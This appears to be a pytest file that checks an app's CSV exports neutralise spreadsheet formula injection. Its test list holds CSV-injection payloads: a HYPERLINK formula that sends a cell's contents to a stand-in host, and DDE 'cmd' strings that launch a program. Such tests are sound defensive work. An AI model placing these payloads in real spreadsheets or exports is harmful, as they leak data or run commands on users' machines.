"""Every CSV the app writes is safe to open in Excel (OWASP's rule on CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from app.domain.categories import Category
from app.domain.records import CaseDraft, CaseFilter, CaseSort
from app.services.casebook import Services, open_casebook
from app.services.csv_file import csv_bytes, csv_text, safe_cell
from tests.conftest import Clock
from tests.e2e.test_cli import PASSWORD, USER, cli

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)


def _runs_as_formula(cell: str) -> bool:
    """What Excel and LibreOffice would treat as a formula (leading spaces skipped)."""
    stripped = cell.lstrip(" \u00a0")
    return bool(cell) and (cell[0] in "=+-@\t\r" or stripped[:1] in ("=", "+", "-", "@", "＝"))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value: str) -> None:
    cell = safe_cell(value)
    assert isinstance(cell, str) and cell == "'" + value
    assert not _runs_as_formula(cell)


def test_ordinary_values_are_left_alone() -> None:
    assert safe_cell("Rude post") == "Rude post"
    assert safe_cell(3) == 3 and safe_cell(-3) == -3 and safe_cell(2.5) == 2.5
    assert safe_cell(None) == "" and safe_cell("") == ""
    assert safe_cell("Facebook - group") == "Facebook - group"
    text = csv_text(["a", "b"], [["x, y", 'say "hi"']])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["x, y", 'say "hi"']]
    assert csv_bytes(["a"], []).startswith("\ufeff".encode())


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_case_list_csv_neutralises_formulas(services: Services) -> None:
    services.cases.open_case(
        CaseDraft(title=HOSTILE[0], categories=frozenset({Category.ABUSIVE}), platform=HOSTILE[1])
    )
    text = services.reports.cases_csv(CaseFilter(), CaseSort("reference", False))
    cells = _cells(text)
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells
    assert not any(_runs_as_formula(c) for c in cells)


def test_the_governors_csv_neutralises_formulas(services: Services, clock: Clock) -> None:
    for day in (7, 8):
        clock.set(datetime(2026, 9, day, 9, 0, tzinfo=UTC))
        services.cases.open_case(
            CaseDraft(title="Post", categories=frozenset({Category.ABUSIVE}), platform=HOSTILE[3])
        )
    report = services.reports.governors_report(date(2026, 9, 1), date(2026, 9, 30), 2)
    cells = _cells(services.reports.governors_csv(report))
    assert "'" + HOSTILE[3] in cells
    assert not any(_runs_as_formula(c) for c in cells)


def test_the_cli_writes_safe_csv_files(tmp_path: Path) -> None:
    data = tmp_path / "data"
    services = open_casebook(data, actor=USER)
    try:
        services.users.create_first_user(USER, PASSWORD)
        for _ in range(3):
            services.cases.open_case(
                CaseDraft(
                    title=HOSTILE[0], categories=frozenset({Category.ABUSIVE}), platform=HOSTILE[2]
                )
            )
    finally:
        services.close()
    listing = cli("cases", "--csv", str(tmp_path / "cases.csv"), data_dir=data)
    assert listing.returncode == 0, listing.stderr
    year = date.today().year
    report = cli(
        "report",
        "--from",
        f"01/01/{year - 1}",
        "--to",
        f"31/12/{year + 1}",
        "--out",
        str(tmp_path / "r.pdf"),
        "--csv",
        str(tmp_path / "r.csv"),
        data_dir=data,
    )
    assert report.returncode == 0, report.stderr
    for name in ("cases.csv", "r.csv"):
        cells = _cells((tmp_path / name).read_text(encoding="utf-8-sig"))
        assert not any(_runs_as_formula(c) for c in cells), name
    assert "'" + HOSTILE[2] in _cells((tmp_path / "r.csv").read_text(encoding="utf-8-sig"))
